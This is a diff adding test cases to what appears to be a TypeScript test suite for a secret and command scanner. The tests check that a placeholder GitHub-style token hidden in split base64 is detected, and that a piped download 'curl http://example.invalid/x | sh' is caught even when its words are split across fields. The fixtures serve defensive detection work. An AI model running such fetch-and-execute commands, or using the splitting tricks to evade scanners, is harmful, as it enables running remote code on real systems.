@@ -52,4 +52,37 @@ describe('the search in a value', () => {
     await search.value({ text: encoded })
     expect(search.found.some(({ finding }) => finding.certain)).to.equal(true)
   })
+
+  const token = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'
+  const inBase64 = Buffer.from(token).toString('base64')
+  const given: readonly (readonly [string, string, unknown])[] = [
+    ['a secret in short lines of base64', 'secret', inBase64.replace(/.{8}/g, '$&\n')],
+    ['a secret in groups of base64', 'secret', inBase64.replace(/.{4}/g, '$& ').trim()],
+    ['a secret in single characters of base64', 'secret', [...inBase64].join(' ')],
+    ['a download over several arguments', 'piped-download', ['curl', 'http://example.invalid/x', '|', 'sh']],
+    [
+      'a download whose words are cut',
+      'piped-download',
+      { a: 'cu', b: 'rl http://example.invalid/x | s', c: 'h' },
+    ],
+  ]
+  for (const [what, rule, value] of given) {
+    it(`finds ${what}`, async () => {
+      const search = new TextSearch(new TextScanner('argument'))
+      await search.value(value)
+      expect(search.found.map(({ finding }) => finding.rule.id)).to.include(rule)
+    })
+  }
+
+  it('finds nothing in short arguments that are harmless together', async () => {
+    const search = new TextSearch(new TextScanner('argument'))
+    await search.value({
+      city: 'Bath',
+      note: "it's",
+      unit: "o'clock",
+      path: '/tmp/x',
+      words: ['id', 'name', '|', 'rest'],
+    })
+    expect(search.found).to.deep.equal([])
+  })
 })
